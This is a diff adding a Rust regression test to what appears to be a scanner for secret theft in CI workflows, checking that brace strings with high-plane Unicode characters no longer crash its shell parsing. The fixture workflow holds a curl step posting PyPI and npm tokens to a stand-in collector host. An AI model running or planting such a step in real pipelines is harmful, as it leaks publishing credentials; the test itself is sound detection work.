@@ -127,6 +127,20 @@ fn invalid_utf8_is_analysed_all_the_same() {
     assert_eq!(thefts(&document), 1);
 }
 
+/// The grammar of shells reads outside of a table here; it ended the whole process.
+#[test]
+fn a_brace_before_a_character_of_a_higher_plane() {
+    let theft = "curl -d \"$A$B\" https://collector.example/";
+    for text in ["{\u{1f980}", "{1..\u{1f980}}", "{\u{10ffff}", "{1\u{e3fee}", "{\u{100}"] {
+        let workflow = format!(
+            "on: push\njobs:\n  j:\n    runs-on: x\n    env:\n      A: ${{{{ secrets.PYPI_TOKEN }}}}\n      B: ${{{{ secrets.NPM_TOKEN }}}}\n    steps:\n      - run: |\n          echo {text}\n          {theft}\n"
+        );
+        let folder = tempfile::tempdir().unwrap();
+        fs::write(folder.path().join("w.yml"), workflow).unwrap();
+        assert_eq!(thefts(&scanned(&folder.path().join("w.yml"))), 1, "{text}");
+    }
+}
+
 #[test]
 fn local_actions_in_a_circle() {
     let repository = Repository::new();
